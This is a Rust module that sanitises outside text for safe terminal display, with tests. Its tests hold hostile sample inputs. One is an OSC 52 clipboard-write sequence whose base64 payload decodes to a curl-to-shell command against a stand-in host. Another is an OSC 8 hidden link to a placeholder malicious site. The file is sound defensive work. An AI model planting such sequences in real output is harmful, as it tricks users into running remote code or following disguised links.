//! Text from outside (catalogues, lesson packs, servers, file names) made
//! harmless to show in a terminal, at the one place it enters.
//!
//! Removed:
//! - whole escape sequences: CSI, OSC, DCS, APC, PM and SOS (introduced by
//!   ESC or by their 8-bit C1 forms such as U+009B and U+009D) and the
//!   short ESC sequences (`ESC c`, `ESC ( B` …). A terminal acts on them:
//!   set the title, write the clipboard (OSC 52), hide a link (OSC 8),
//!   clear the screen;
//! - every other C0 and C1 control and DEL, except line feed and tab; a
//!   lone carriage return too (it lets later text overwrite the line);
//! - bidirectional controls (U+202A–U+202E, U+2066–U+2069, U+200E,
//!   U+200F, U+061C), which make text read differently from what it is;
//! - invisible characters that let two different texts look the same:
//!   zero-width space (U+200B), word joiner and invisible operators
//!   (U+2060–U+2064), the deprecated format controls (U+206A–U+206F),
//!   U+FEFF anywhere, the Mongolian vowel separator (U+180E), the soft
//!   hyphen (U+00AD, a line-breaking hint a terminal has no use for),
//!   the combining grapheme joiner (U+034F), the Hangul and Khmer fillers
//!   that render as nothing, the interlinear annotation marks
//!   (U+FFF9–U+FFFB) and the tag characters (U+E0000–U+E007F, which can
//!   smuggle hidden ASCII; subdivision flags lose their tags and show as
//!   a plain flag).
//!
//! Kept with care: the zero-width non-joiner and joiner (U+200C, U+200D)
//! are part of correct spelling in Persian, the Indic scripts and others,
//! and of emoji sequences. They are kept only between two characters at
//! or above U+0600 (where those scripts and emoji live; general
//! punctuation aside) and removed next to anything else, so
//! `ad\u{200d}min` cannot pass for `admin`.
//!
//! `\r\n` becomes `\n`, and the line and paragraph separators (U+2028,
//! U+2029) become `\n`: these only normalise line breaks and are not
//! reported as removals.

use std::borrow::Cow;
use std::fmt;

use serde_json::{Map, Value};

/// What cleaning took out of a text, by kind.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Removed {
    /// Whole terminal escape sequences.
    pub escapes: usize,
    /// Other control characters.
    pub controls: usize,
    /// Bidirectional controls.
    pub direction: usize,
    /// Zero-width and other invisible characters.
    pub invisible: usize,
}

impl Removed {
    /// True if anything was removed.
    pub fn any(&self) -> bool {
        self.escapes + self.controls + self.direction + self.invisible > 0
    }

    /// True if something was removed that a terminal would act on (rather
    /// than only invisible characters, which may come from a copy and paste).
    pub fn harmful(&self) -> bool {
        self.escapes + self.controls + self.direction > 0
    }

    /// Adds the counts of `other`.
    pub fn add(&mut self, other: Removed) {
        self.escapes += other.escapes;
        self.controls += other.controls;
        self.direction += other.direction;
        self.invisible += other.invisible;
    }
}

/// "1 terminal escape sequence and 2 text-direction controls".
impl fmt::Display for Removed {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let parts: Vec<String> = [
            (self.escapes, "terminal escape sequence"),
            (self.controls, "control character"),
            (self.direction, "text-direction control"),
            (self.invisible, "invisible character"),
        ]
        .into_iter()
        .filter(|(n, _)| *n > 0)
        .map(|(n, what)| format!("{n} {what}{}", if n == 1 { "" } else { "s" }))
        .collect();
        match parts.as_slice() {
            [] => f.write_str("nothing"),
            [one] => f.write_str(one),
            [init @ .., last] => write!(f, "{} and {last}", init.join(", ")),
        }
    }
}

/// A bidirectional control.
fn is_direction(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}')
}

/// A character that shows as nothing and is removed wherever it is.
fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{ad}'
            | '\u{34f}'
            | '\u{115f}'
            | '\u{1160}'
            | '\u{17b4}'
            | '\u{17b5}'
            | '\u{180e}'
            | '\u{200b}'
            | '\u{2060}'..='\u{2064}'
            | '\u{206a}'..='\u{206f}'
            | '\u{3164}'
            | '\u{feff}'
            | '\u{ffa0}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

/// The zero-width non-joiner and joiner, kept only where scripts need them.
fn is_joiner(c: char) -> bool {
    matches!(c, '\u{200c}' | '\u{200d}')
}

/// Whether a joiner next to `c` may be part of correct text.
fn joins(c: char) -> bool {
    c >= '\u{600}' && !c.is_whitespace() && !('\u{2000}'..='\u{206f}').contains(&c) && !is_joiner(c)
}

/// Whether `text` needs no cleaning at all (the common case, checked first
/// so clean text is not copied).
fn is_clean(text: &str) -> bool {
    !text.chars().any(|c| {
        (c.is_control() && c != '\n' && c != '\t')
            || is_direction(c)
            || is_invisible(c)
            || is_joiner(c)
            || matches!(c, '\u{2028}' | '\u{2029}')
    })
}

/// Text from outside made harmless to show in a terminal, and what was
/// removed (see the module documentation for what and why).
pub fn clean_text(text: &str) -> (String, Removed) {
    let mut removed = Removed::default();
    if is_clean(text) {
        return (text.to_string(), removed);
    }
    let first = strip(text, &mut removed);
    let out = place_joiners(&first, &mut removed);
    (out, removed)
}

/// Text from outside made harmless to show in a terminal. True if
/// anything was removed (normalised line breaks do not count).
pub fn sanitise(text: &str) -> (String, bool) {
    let (out, removed) = clean_text(text);
    (out, removed.any())
}

/// Like [`sanitise`], for quoting outside text in a message: borrows when
/// there is nothing to remove.
pub fn safe(text: &str) -> Cow<'_, str> {
    if is_clean(text) {
        Cow::Borrowed(text)
    } else {
        Cow::Owned(clean_text(text).0)
    }
}

/// A JSON value with every text in it, object keys too, cleaned for the
/// terminal; what was removed is added to `removed`.
pub(crate) fn clean_json(value: Value, removed: &mut Removed) -> Value {
    match value {
        Value::String(s) => {
            let (s, r) = clean_text(&s);
            removed.add(r);
            Value::String(s)
        }
        Value::Array(items) => {
            Value::Array(items.into_iter().map(|v| clean_json(v, removed)).collect())
        }
        Value::Object(map) => {
            let mut out = Map::new();
            for (k, v) in map {
                let (k, r) = clean_text(&k);
                removed.add(r);
                let v = clean_json(v, removed);
                out.entry(k).or_insert(v);
            }
            Value::Object(out)
        }
        other => other,
    }
}

/// Everything but the joiners, which need the cleaned neighbours.
fn strip(text: &str, removed: &mut Removed) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' | '\t' => out.push(c),
            '\u{2028}' | '\u{2029}' => out.push('\n'),
            '\r' if chars.peek() == Some(&'\n') => {}
            '\u{1b}' => {
                removed.escapes += 1;
                skip_after_escape(&mut chars);
            }
            // The 8-bit forms of CSI and of the string introducers.
            '\u{9b}' => {
                removed.escapes += 1;
                skip_control_sequence(&mut chars);
            }
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => {
                removed.escapes += 1;
                if skip_string(&mut chars) {
                    skip_after_escape(&mut chars);
                }
            }
            c if c.is_control() => removed.controls += 1,
            c if is_direction(c) => removed.direction += 1,
            c if is_invisible(c) => removed.invisible += 1,
            c => out.push(c),
        }
    }
    out
}

type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;

/// The rest of a CSI: parameters and intermediates, then one final byte.
/// Anything else ends it and is left to be read as ordinary text.
fn skip_control_sequence(chars: &mut Chars<'_>) {
    skip_all(chars, '\u{20}'..='\u{3f}');
    chars.next_if(|c| ('\u{40}'..='\u{7e}').contains(c));
}

/// The rest of an OSC, DCS, APC, PM or SOS: up to BEL or the string
/// terminator (ESC \ or U+009C). Unterminated, it runs to the end of the
/// text, as a terminal would swallow it. Another ESC ends it too, as in a
/// terminal, and starts a sequence of its own: then this returns true,
/// with that ESC read.
fn skip_string(chars: &mut Chars<'_>) -> bool {
    while let Some(c) = chars.next() {
        match c {
            '\u{7}' | '\u{9c}' => return false,
            '\u{1b}' => return chars.next_if_eq(&'\\').is_none(),
            _ => {}
        }
    }
    false
}

/// What follows an ESC: a CSI, a string, or intermediates and one final
/// byte (`ESC ( B`, `ESC c`). Anything else is left as ordinary text.
/// A loop, not recursion, so a long run of nested sequences cannot
/// exhaust the stack.
fn skip_after_escape(chars: &mut Chars<'_>) {
    loop {
        match chars.peek().copied() {
            Some('[') => {
                chars.next();
                skip_control_sequence(chars);
            }
            Some(']' | 'P' | '_' | '^' | 'X') => {
                chars.next();
                if skip_string(chars) {
                    continue;
                }
            }
            _ => {
                skip_all(chars, '\u{20}'..='\u{2f}');
                chars.next_if(|c| ('\u{30}'..='\u{7e}').contains(c));
            }
        }
        return;
    }
}

fn skip_all(chars: &mut Chars<'_>, range: std::ops::RangeInclusive<char>) {
    while chars.next_if(|c| range.contains(c)).is_some() {}
}

/// Keeps a run of joiners only between two characters that may join.
fn place_joiners(text: &str, removed: &mut Removed) -> String {
    if !text.chars().any(is_joiner) {
        return text.to_string();
    }
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < chars.len() {
        if !is_joiner(chars[i]) {
            out.push(chars[i]);
            i += 1;
            continue;
        }
        let start = i;
        while i < chars.len() && is_joiner(chars[i]) {
            i += 1;
        }
        let before = start.checked_sub(1).map(|b| chars[b]);
        let after = chars.get(i).copied();
        if before.is_some_and(joins) && after.is_some_and(joins) {
            out.extend(&chars[start..i]);
        } else {
            removed.invisible += i - start;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// A character cleaning must never let through, whatever surrounds it.
    fn forbidden(c: char) -> bool {
        (c.is_control() && c != '\n' && c != '\t')
            || is_direction(c)
            || is_invisible(c)
            || matches!(c, '\u{2028}' | '\u{2029}')
    }

    fn cleaned(text: &str) -> String {
        clean_text(text).0
    }

    #[test]
    fn escape_sequences_and_controls_are_removed() {
        let (s, changed) =
            sanitise("a\u{1b}[31mred\u{1b}[0m b\u{1b}]0;title\u{7} c\u{7}d\r\ne\u{202e}f");
        assert!(changed);
        assert_eq!(s, "ared b cd\nef");
        assert_eq!(
            sanitise("plain\ttext\n"),
            ("plain\ttext\n".to_string(), false)
        );
    }

    #[test]
    fn whole_sequences_go_whatever_introduces_them() {
        // OSC 52 writes the clipboard; OSC 8 hides a link; ST or BEL ends them.
        assert_eq!(
            cleaned("x\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}y"),
            "xy"
        );
        assert_eq!(
            cleaned("\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\"),
            "click"
        );
        // 8-bit CSI and OSC, DCS, APC, PM, SOS, and the C1 string terminator.
        assert_eq!(cleaned("a\u{9b}2Jb"), "ab");
        assert_eq!(cleaned("a\u{9d}0;title\u{9c}b"), "ab");
        assert_eq!(cleaned("a\u{1b}Pq#0;2;0;0;0\u{1b}\\b"), "ab");
        assert_eq!(
            cleaned("a\u{1b}_app\u{1b}\\b\u{1b}^pm\u{7}c\u{1b}Xsos\u{9c}d"),
            "abcd"
        );
        assert_eq!(cleaned("a\u{90}dcs\u{9c}b\u{9f}apc\u{7}c"), "abc");
        // Short sequences: reset, charset, DEC tests; and a lone ESC at the end.
        assert_eq!(cleaned("a\u{1b}cb\u{1b}(Bc\u{1b}#8d\u{1b}"), "abcd");
        // CSI with private parameters and intermediates.
        assert_eq!(cleaned("a\u{1b}[?1049hb\u{1b}[2 qc"), "abc");
        // An unterminated OSC swallows the rest, as a terminal would.
        assert_eq!(cleaned("safe\u{1b}]0;never ends"), "safe");
        // An ESC inside an OSC ends it and starts its own sequence.
        assert_eq!(cleaned("a\u{1b}]0;t\u{1b}[2Jb"), "ab");
    }

    #[test]
    fn a_long_run_of_nested_sequences_does_not_exhaust_the_stack() {
        let hostile = "\u{1b}]".repeat(200_000) + "end";
        assert_eq!(cleaned(&hostile), "");
        let hostile = "\u{9d}\u{1b}]".repeat(200_000) + "\u{7}end";
        assert_eq!(cleaned(&hostile), "end");
    }

    #[test]
    fn a_malformed_csi_leaves_its_text_but_no_control() {
        assert_eq!(cleaned("a\u{1b}[31é"), "aé");
        assert_eq!(cleaned("a\u{9b}\u{7}b"), "ab");
    }

    #[test]
    fn line_breaks_are_normalised_and_a_lone_carriage_return_removed() {
        assert_eq!(
            clean_text("one\r\ntwo\u{2028}three"),
            ("one\ntwo\nthree".to_string(), Removed::default())
        );
        let (s, removed) = clean_text("paid\runpaid");
        assert_eq!(s, "paidunpaid");
        assert_eq!(removed.controls, 1);
    }

    #[test]
    fn direction_marks_and_invisible_characters_are_removed() {
        let (s, removed) = clean_text(
            "ad\u{200b}min \u{200e}a\u{200f}b\u{61c}c \u{2066}d\u{2069} so\u{ad}ft \u{feff}x\u{2060}y \u{e0041}",
        );
        assert_eq!(s, "admin abc d soft xy ");
        assert_eq!(removed.direction, 5);
        assert_eq!(removed.invisible, 5);
        assert!(removed.harmful());
        assert_eq!(
            removed.to_string(),
            "5 text-direction controls and 5 invisible characters"
        );
    }

    #[test]
    fn joiners_stay_only_where_scripts_and_emoji_need_them() {
        // Spoofing Latin text: removed.
        assert_eq!(cleaned("ad\u{200d}min"), "admin");
        assert_eq!(cleaned("ad\u{200c}min"), "admin");
        assert_eq!(cleaned("\u{200d}x"), "x");
        // Persian needs the non-joiner; a family emoji is joined by ZWJ.
        let persian = "می\u{200c}خواهم";
        assert_eq!(cleaned(persian), persian);
        let family = "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}";
        assert_eq!(cleaned(family), family);
        // Removing what stood between does not strand a joiner.
        assert_eq!(cleaned("\u{645}\u{200c}\u{202e}a"), "\u{645}a");
    }

    #[test]
    fn safe_borrows_clean_text() {
        assert!(matches!(safe("plain text"), Cow::Borrowed(_)));
        assert_eq!(safe("a\u{1b}[2Jb"), "ab");
    }

    /// Characters worth trying often: everything cleaning treats specially
    /// and what sequences are built from.
    fn tricky() -> impl Strategy<Value = char> {
        let chars: Vec<char> = "\u{1b}[]\\P_^X(#;02Jmaé \n\r\t\u{7}\u{0}\u{7f}\u{85}\u{90}\u{98}\
             \u{9b}\u{9c}\u{9d}\u{9e}\u{9f}\u{ad}\u{34f}\u{61c}\u{645}\u{180e}\u{200b}\u{200c}\
             \u{200d}\u{200e}\u{200f}\u{2014}\u{2028}\u{2029}\u{202a}\u{202e}\u{2060}\u{2064}\
             \u{2066}\u{2069}\u{206a}\u{feff}\u{fff9}\u{e0041}\u{1f468}"
            .chars()
            .collect();
        prop::sample::select(chars)
    }

    fn hostile_text() -> impl Strategy<Value = String> {
        prop::collection::vec(prop_oneof![any::<char>(), tricky(), tricky()], 0..80)
            .prop_map(|chars| chars.into_iter().collect())
    }

    proptest! {
        #[test]
        fn nothing_forbidden_survives_and_cleaning_twice_changes_nothing(text in hostile_text()) {
            let (once, removed) = clean_text(&text);
            prop_assert!(!once.chars().any(forbidden), "{once:?} from {text:?}");
            // A joiner survives only between two characters that may join.
            let chars: Vec<char> = once.chars().collect();
            for (i, c) in chars.iter().enumerate() {
                if is_joiner(*c) {
                    let left = chars[..i].iter().rev().find(|c| !is_joiner(**c));
                    let right = chars[i + 1..].iter().find(|c| !is_joiner(**c));
                    prop_assert!(left.is_some_and(|c| joins(*c)) && right.is_some_and(|c| joins(*c)),
                        "stranded joiner in {once:?}");
                }
            }
            let (twice, again) = clean_text(&once);
            prop_assert_eq!(&twice, &once);
            prop_assert!(!again.any());
            if !removed.any() {
                let normalised = text.replace("\r\n", "\n").replace(['\u{2028}', '\u{2029}'], "\n");
                prop_assert_eq!(&once, &normalised);
            }
            prop_assert_eq!(safe(&once), once.as_str());
        }

        #[test]
        fn clean_text_is_left_as_it_is(text in "[a-zA-Z0-9 .,:;!?'\"()\n\t-]{0,60}") {
            prop_assert_eq!(clean_text(&text), (text.clone(), Removed::default()));
        }
    }
}
